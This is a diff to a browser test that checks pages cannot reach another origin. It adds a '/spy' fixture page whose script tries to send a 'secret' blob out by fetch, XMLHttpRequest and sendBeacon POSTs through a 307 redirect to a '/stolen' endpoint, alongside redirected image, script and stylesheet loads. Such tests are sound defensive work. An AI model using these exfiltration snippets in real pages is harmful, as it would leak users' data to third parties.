@@ -58,13 +58,21 @@ def test_a_page_reaches_no_other_origin(
     there = elsewhere.origin
     site.answers["/fetch-there"] = redirect(f"{there}/redirected")
     site.answers["/frame-there"] = redirect(f"{there}/frame-redirected")
+    for kind in ("img", "script", "style"):
+        site.answers[f"/{kind}-there"] = redirect(f"{there}/{kind}-redirected")
+    site.answers["/up-there"] = redirect(f"{there}/stolen", 307)
     site.answers["/spy"] = page(
         f"<img src='{there}/img'><script src='{there}/script'></script>"
         f"<link rel=stylesheet href='{there}/style'><iframe src='{there}/frame'></iframe>"
-        "<iframe src='/frame-there'></iframe>"
+        "<iframe src='/frame-there'></iframe><img src='/img-there'>"
+        "<script src='/script-there'></script><link rel=stylesheet href='/style-there'>"
         f"<script>window.ended = 0; const end = () => window.ended++;"
         f"fetch('{there}/fetch', {{mode: 'no-cors'}}).finally(end);"
         "fetch('/fetch-there', {mode: 'no-cors'}).finally(end);"
+        "const form = new FormData(); form.append('f', new Blob(['secret']), 'f.xml');"
+        "fetch('/up-there', {method: 'POST', body: form, mode: 'no-cors'}).finally(end);"
+        "const old = new XMLHttpRequest(); old.onloadend = end; old.open('POST', '/up-there');"
+        "old.send(form); navigator.sendBeacon('/up-there', form);"
         f"navigator.sendBeacon('{there}/beacon', 'x');"
         f"const socket = new WebSocket('{there.replace('http', 'ws')}/socket');"
         "socket.onerror = end; socket.onopen = end;"
@@ -73,10 +81,12 @@ def test_a_page_reaches_no_other_origin(
         "new Worker(URL.createObjectURL(new Blob([source]))).onmessage = end;</script>"
     )
     someone.visits(f"{site.origin}/spy")
-    someone.until(lambda: someone.asks("window.ended", world=0) == 4)
+    someone.until(lambda: someone.asks("window.ended", world=0) == 6)
+    someone.until(lambda: someone.heard("origin_blocked"))
     assert elsewhere.asked == []
-    assert "/fetch-there" in site.paths()
-    assert "/frame-there" in site.paths()
+    for path in ("/fetch-there", "/frame-there", "/img-there", "/script-there", "/style-there"):
+        assert path in site.paths()
+    assert site.paths("POST").count("/up-there") == 3
     assert someone.heard("origin_blocked") == [(there,)], "listed once"
     assert someone.window.view.bar.refused.text() == "1 adresse refusée"
 
